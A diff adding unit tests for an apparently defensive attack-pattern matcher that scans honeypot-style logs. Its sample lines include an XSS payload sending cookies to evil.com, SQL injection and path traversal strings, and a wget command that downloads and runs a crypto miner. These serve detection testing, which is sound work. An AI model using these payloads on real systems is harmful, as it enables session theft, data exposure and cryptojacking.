@@ -0,0 +1,70 @@
+"""
+Unit Tests for Attack Pattern Matching
+Tests the single-pass PatternMatcher against per-regex search
+"""
+
+import sys
+from pathlib import Path
+
+# analysis modules are loaded directly; the package __init__ pulls in optional feeds
+sys.path.insert(0, str(Path(__file__).parent.parent.parent / 'src' / 'analysis'))
+
+import attack_patterns
+
+
+class TestPatternMatcher:
+    """Test suite for PatternMatcher and service tables"""
+
+    LINES = [
+        "Failed password for invalid user admin from 185.220.101.50 port 54322 ssh2",
+        "Accepted publickey for deploy from 10.0.0.5 port 51522 ssh2",
+        "GET /admin' OR '1'='1 HTTP/1.1",
+        "GET /../../etc/passwd HTTP/1.1",
+        "<script>document.location='http://evil.com/?c='+document.cookie</script>",
+        "GET /index.html HTTP/1.1",
+        "CONFIG SET dir /var/www/html",
+        "SELECT * FROM information_schema.tables UNION ALL SELECT 1",
+        "FAİLED PASSWORD FOR ROOT FROM 1.2.3.4",
+        "wget http://x/xmrig && ./xmrig -o stratum+tcp://pool:3333",
+    ]
+    SERVICES = ["ssh", "http", "mysql", "redis", "mongodb", "modbus", "ftp"]
+
+    def setup_method(self):
+        self.analyzer = attack_patterns.AttackPatternAnalyzer()
+
+    def _per_regex(self, line, service):
+        return [
+            (key, match.group(0), match.groups())
+            for key, data in self.analyzer._get_relevant_patterns(service).items()
+            for compiled in data["compiled"]
+            for match in [compiled.search(line)] if match
+        ]
+
+    def test_matches_per_regex_search(self):
+        for service in self.SERVICES:
+            matcher = self.analyzer._service_matchers[self.analyzer._service_category(service)]
+            for line in self.LINES:
+                found = [(key, match.group(0), match.groups()) for key, _, match in matcher.match(line)]
+                assert found == self._per_regex(line, service)
+
+    def test_benign_line_runs_no_regex(self):
+        matcher = self.analyzer._service_matchers["http"]
+        assert matcher.unfiltered == 0
+        assert matcher.match("GET /index.html HTTP/1.1") == []
+
+    def test_required_literals(self):
+        parse = attack_patterns.sre_parse.parse
+        assert attack_patterns._required_literals(parse(r"Invalid user (\w+) from")) == {"invalid user "}
+        assert attack_patterns._required_literals(parse(r"(?:monerominerd|xmr-stak)")) == {"monerominerd", "xmr-stak"}
+        assert attack_patterns._required_literals(parse(r"[\d\.]+")) is None
+
+    def test_service_tables_precomputed(self):
+        assert self.analyzer._get_relevant_patterns("SSH") is self.analyzer._get_relevant_patterns("openssh")
+        keys = list(self.analyzer._get_relevant_patterns("ssh"))
+        assert all(k.startswith(("ssh:", "malware:")) for k in keys)
+        assert len(self.analyzer._get_relevant_patterns("ftp")) == len(self.analyzer._compiled_patterns)
+
+    def test_analyze_detects_brute_force(self):
+        patterns = self.analyzer.analyze(self.LINES[0], "185.220.101.50", "ssh")
+        assert "brute_force" in [p.attack_type for p in patterns]
+        assert patterns[0].indicators == ["admin", "185.220.101.50"]